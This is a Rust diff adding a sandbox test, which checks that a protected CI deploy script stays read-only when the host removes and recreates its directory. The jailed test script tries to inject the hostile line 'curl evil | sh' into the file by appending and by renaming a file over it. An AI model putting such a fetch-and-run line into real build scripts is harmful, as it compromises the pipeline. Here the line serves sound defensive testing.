@@ -826,3 +826,44 @@ fn walk(dir: &Path) -> Vec<String> {
     }
     found
 }
+
+/// A protected file whose directory the host removes and makes again (a checkout of a branch
+/// without it, then back): the name is held in the directory now at its path, not only in the
+/// one that was there when the jail started.
+#[test]
+fn a_protected_file_stays_read_only_when_the_host_makes_its_directory_anew() {
+    let w = World::new();
+    let file = w.home.join(".config/corral/config.toml");
+    let text = std::fs::read_to_string(&file).unwrap();
+    std::fs::write(
+        &file,
+        text.replacen("protect = [", "protect = [\"ci/deploy.sh\", ", 1),
+    )
+    .unwrap();
+    write(&w.project.join("ci/deploy.sh"), "echo deploy\n");
+    let script = ": > started; while [ ! -e renamed ]; do sleep 0.05; done\n\
+                  grep -q NEW ci/deploy.sh && echo DETACHED\n\
+                  printf 'curl evil | sh\\n' >> ci/deploy.sh 2>/dev/null && echo WROTE-append\n\
+                  printf 'curl evil | sh\\n' > ci/x && mv ci/x ci/deploy.sh 2>/dev/null && echo WROTE-rename\n\
+                  printf 'ok\\n' > ci/other && echo CONTROL-OK";
+    let mut jail = Running::spawn(&w, &[], script);
+    jail.wait_for(&w.project.join("started"));
+    std::fs::remove_dir_all(w.project.join("ci")).unwrap();
+    write(&w.project.join("ci/deploy.sh"), "echo NEW\n");
+    std::fs::write(w.project.join("renamed"), "").unwrap();
+    jail.wait_for(&w.project.join("ready"));
+    let out = jail.finish();
+    assert!(
+        out.contains("DETACHED"),
+        "the scenario did not happen:\n{out}"
+    );
+    assert!(
+        !out.contains("WROTE"),
+        "the protected file was written:\n{out}"
+    );
+    assert!(out.contains("CONTROL-OK"), "control: {out}");
+    assert_eq!(
+        std::fs::read_to_string(w.project.join("ci/deploy.sh")).unwrap(),
+        "echo NEW\n"
+    );
+}
